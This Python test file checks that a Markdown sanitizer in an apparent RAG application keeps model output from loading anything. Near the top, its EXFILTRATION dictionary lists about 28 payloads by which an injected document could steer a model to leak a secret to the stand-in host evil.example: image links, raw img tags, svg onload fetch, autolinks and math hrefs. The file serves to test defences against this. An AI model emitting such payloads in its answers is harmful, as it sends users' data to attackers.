"""Model text rendered so that nothing in it loads: every exfiltration variant, whole and streamed.

What is checked is what a Markdown renderer makes of the output: it is parsed
again (CommonMark with raw HTML allowed, GFM tables and strikethrough) and no
image, link or HTML may come out of it, and the rendered HTML must not hold an
address a browser would fetch or follow.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from gpt4all_rag.markdown import code_span, escape_text, safe_markdown

# The renderer an attacker would hope for: raw HTML on, tables and strikethrough.
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
SECRET = "SECRET"
# Each way the model (steered by a document) could make the page fetch an address.
EXFILTRATION = {
    "image": f"![x](https://evil.example/?q={SECRET})",
    "escaped bang": f"\\![x](https://evil.example/?q={SECRET})",
    "double backslash": f"\\\\![x](https://evil.example/?q={SECRET})",
    "reference image": f"![x][r]\n\n[r]: https://evil.example/?q={SECRET}",
    "collapsed reference": f"![r][]\n\n[r]: https://evil.example/?q={SECRET}",
    "shortcut reference": f'![r]\n\n[r]: <https://evil.example/?q={SECRET}> "t"',
    "angle destination": f"![x](<https://evil.example/?q={SECRET}> 'title')",
    "raw img": f'<img src="https://evil.example/?q={SECRET}">',
    "raw img inline": f"Text <img src='https://evil.example/?q={SECRET}' /> more",
    "html block": f'<div>\n<img src="https://evil.example/?q={SECRET}">\n</div>',
    "svg onload": f"<svg onload=\"fetch('https://evil.example/?q={SECRET}')\"></svg>",
    "entity encoded": f"&#33;[x](https://evil.example/?q={SECRET}) &lt;img src=x&gt;",
    "autolink": f"<https://evil.example/?q={SECRET}>",
    "bare url": f"See https://evil.example/?q={SECRET} now",
    "www url": f"See www.evil.example/?q={SECRET} now",
    "email": f"Mail {SECRET}@evil.example now",
    "link": f"[click](https://evil.example/?q={SECRET})",
    "image in link": f"[![x](https://evil.example/i?q={SECRET})](https://evil.example/)",
    "in list": f"- item\n- ![x](https://evil.example/?q={SECRET})",
    "in quote": f"> ![x](https://evil.example/?q={SECRET})",
    "in heading": f"# Title ![x](https://evil.example/?q={SECRET})",
    "in table": f"| a | b |\n|---|---|\n| `x` | ![x](https://evil.example/?q={SECRET}) |",
    "pipe in table code": (
        f"| a | b |\n|---|---|\n| `x\\|y` ![x](https://evil.example/?q={SECRET}) | z |"
    ),
    "in emphasis": f"**![x](https://evil.example/?q={SECRET})**",
    "split over lines": f"![x](\nhttps://evil.example/?q={SECRET}\n)",
    "data url": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "math": "$\\href{https://evil.example/}{x}$ and $$\\includegraphics{https://evil.example}$$",
    "streamlit directive": ":red[x] :material/home: ![x](https://evil.example/q)",
}


def hostile_answer() -> str:
    """Every variant in one answer, each with its own secret.

    Distinct secrets keep any run of words from repeating, which the
    repetition guard would take for a loop and cut.
    """
    variants = EXFILTRATION.values()
    return "\n\n".join(text.replace(SECRET, f"{SECRET}{n}") for n, text in enumerate(variants))


# A web address in the rendered HTML: the thing a browser would fetch or follow.
ADDRESS_ATTRIBUTE = re.compile(
    r"<(?:img|a|script|iframe|svg|source|video|audio|link|object|embed)\b"
    r"|<[a-z][^>]*\s(?:src|href|srcset|poster|data)="
)


def live_tokens(markdown: str) -> list[str]:
    """The images, links and raw HTML a CommonMark renderer finds in ``markdown``."""
    found: list[str] = []
    stack: list[Token] = list(RENDERER.parse(markdown))
    while stack:
        token = stack.pop()
        if token.type in {"image", "link_open", "html_inline", "html_block"}:
            found.append(f"{token.type}: {token.content or token.attrs}")
        stack.extend(token.children or [])
    return found


def assert_inert(markdown: str) -> None:
    assert live_tokens(markdown) == []
    assert not ADDRESS_ATTRIBUTE.search(RENDERER.render(markdown)), RENDERER.render(markdown)


def prefixes(text: str) -> list[str]:
    return [text[:n] for n in range(1, len(text) + 1)]


LIVE_AS_WRITTEN = [
    "image", "escaped bang", "double backslash", "reference image", "collapsed reference",
    "shortcut reference", "angle destination", "raw img", "raw img inline", "html block",
    "svg onload", "entity encoded", "autolink", "link", "image in link", "in list", "in quote",
    "in heading", "in table", "pipe in table code", "in emphasis", "data url",
    "streamlit directive",
]  # fmt: skip


def test_the_checker_sees_the_variants_as_live_when_not_rendered() -> None:
    assert [name for name in LIVE_AS_WRITTEN if not live_tokens(EXFILTRATION[name])] == []


@pytest.mark.parametrize("text", EXFILTRATION.values(), ids=EXFILTRATION.keys())
def test_every_exfiltration_variant_is_inert_whole(text: str) -> None:
    assert_inert(safe_markdown(text))


def test_streamlit_extensions_cannot_start() -> None:
    # Streamlit also renders $math$ (KaTeX), :color[directives] and :emoji: shortcodes.
    shown = safe_markdown(EXFILTRATION["math"] + " " + EXFILTRATION["streamlit directive"])

    outside_code = re.sub(r"(`+).*?\1", "", shown)
    assert re.findall(r"(?<!\\)[$:]", outside_code) == []
    assert outside_code.count("\\$") == 6


@pytest.mark.parametrize("text", EXFILTRATION.values(), ids=EXFILTRATION.keys())
def test_every_exfiltration_variant_is_inert_at_every_point_of_a_stream(text: str) -> None:
    # A stream is rendered again from the whole text so far after each piece; the
    # worst case is a piece per character, which ends on every possible split.
    for prefix in prefixes(text):
        assert_inert(safe_markdown(prefix + "▌"))


def test_an_image_becomes_its_alt_text_and_its_address_as_code() -> None:
    shown = safe_markdown(f"Look ![the chart](https://evil.example/c.png?q={SECRET}) here.")

    assert shown == (
        "Look the chart \\(image not loaded\\: `https://evil.example/c.png?q=SECRET`\\) here\\."
    )
    assert RENDERER.render(shown) == (
        "<p>Look the chart (image not loaded: <code>https://evil.example/c.png?q=SECRET</code>)"
        " here.</p>\n"
    )


def test_the_escaped_bang_variant_shows_text_and_code_only() -> None:
    shown = safe_markdown(f"\\![x](https://evil.example/?q={SECRET})")

    assert RENDERER.render(shown) == ("<p>!x (<code>https://evil.example/?q=SECRET</code>)</p>\n")


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    shown = safe_markdown('A <img src="x.png"> and <b>bold</b> & co.')

    assert RENDERER.render(shown) == (
        "<p>A &lt;img src=&quot;x.png&quot;&gt; and &lt;b&gt;bold&lt;/b&gt; &amp; co.</p>\n"
    )


@pytest.mark.parametrize(
    "text",
    [
        "The core runs at **451 kelvin** [1].",
        'Use `install.packages("x")` and *then* ~~not~~ this [1, 2].',
        "# Title\n\nA paragraph\nover two lines.\n\n## Sub\n\nText.",
        "- one\n- two\n  - nested\n- three",
        "1. first\n2. second\n\n   more of second\n3. third",
        "> quoted\n> text\n\nafter",
        '```r\ninstall.packages("x")\n# a comment\n```',
        "    indented code <b>\n",
        "| a | b |\n|:--|--:|\n| 1 | 2 |",
        "A line  \nwith a hard break, and a rule:\n\n***\n\nend.",
        "Prices: $5 and 3 < 4 > 2 & 10% off_the_top *really*.",
    ],
)
def test_ordinary_markdown_looks_the_same(text: str) -> None:
    # The Markdown differs (escapes, fenced code); what a reader sees does not.
    assert RENDERER.render(safe_markdown(text)) == RENDERER.render(text)


def test_code_keeps_backticks_and_table_pipes() -> None:
    assert code_span("a `b` c") == "``a `b` c``"
    assert code_span("`x`") == "`` `x` ``"
    assert code_span("a|b", in_table=True) == "`a\\|b`"
    assert code_span("line\nbreak") == "`line break`"
    assert RENDERER.render(safe_markdown("```\nx ``` y\n```")) == (
        "<pre><code>x ``` y\n</code></pre>\n"
    )


def test_escape_text_shows_a_hostile_file_name_literally() -> None:
    name = "x.![](http://evil.example/a.png)"

    shown = escape_text(name)

    assert_inert(shown)
    assert RENDERER.render(shown) == ("<p>x.![](<code>http://evil.example/a.png</code>)</p>\n")


def test_escape_text_keeps_lines_and_neutralizes_line_starts() -> None:
    shown = escape_text("1. not a list\n# not a heading\n\n<img src=x>\r- no")

    assert_inert(shown)
    assert RENDERER.render(shown) == (
        "<p>1. not a list\n# not a heading</p>\n<p>&lt;img src=x&gt;\n- no</p>\n"
    )


# Pieces that combine into every construct above, for random documents.
PIECES = [
    "!", "[", "]", "(", ")", "<", ">", "\\", "`", "*", "_", "|", "-", "#", ":", "&", ";",
    " ", "\n", "\n\n", "    ", "x", "1.", "![", "](", "[r]: ", "http://e.example/?q=S",
    "www.e.example", "a@e.example", "<img src=http://e.example/i>", "&#33;", "&lt;",
    "<http://e.example>", "```", "~~~", "> ", "- ", "| a |", "|---|", "$", "\"t\"",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40))
def test_no_combination_of_pieces_makes_anything_live(pieces: list[str]) -> None:
    text = "".join(pieces)

    assert_inert(safe_markdown(text))
    assert_inert(escape_text(text))
